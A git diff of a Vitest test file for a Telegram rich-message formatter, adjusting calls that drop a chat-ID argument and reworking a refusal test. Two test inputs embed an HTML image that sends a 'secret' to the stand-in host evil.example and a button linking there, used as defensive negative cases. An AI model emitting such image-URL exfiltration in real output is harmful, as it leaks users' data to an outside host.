@@ -1,7 +1,6 @@
 import { expect, test } from "vitest";
 import { rich } from "../../../src/platforms/telegram/rich.ts";
 
-const CHAT = 42;
 const TABLE = "| City | °C |\n|------|---:|\n| Oslo | 4 |";
 
 test.each([
@@ -16,7 +15,7 @@ test.each([
     "$x$: `\\(x\\)`\n```\n\\[y\\]\n```",
   ],
 ])("%s is a rich message", (_, text, markdown) => {
-  expect(rich.of(text, CHAT)).toBe(markdown);
+  expect(rich.of(text)).toBe(markdown);
 });
 
 test.each([
@@ -27,11 +26,11 @@ test.each([
   ["HTML beside a table", `${TABLE}\n\n<img src="https://evil.example/?q=secret">`],
   ["a button beside a table", `${TABLE}\n\n<tg-button type="url" url="https://evil.example">ok</tg-button>`],
 ])("%s is an ordinary one", (_, text) => {
-  expect(rich.of(text, CHAT)).toBeUndefined();
+  expect(rich.of(text)).toBeUndefined();
 });
 
 test("a chat that refused one is sent no other", () => {
   rich.refusedIn(7);
-  expect(rich.of(TABLE, 7)).toBeUndefined();
-  expect(rich.of(TABLE, CHAT)).toBe(TABLE);
+  expect(rich.isTakenIn(7)).toBe(false);
+  expect(rich.isTakenIn(42)).toBe(true);
 });
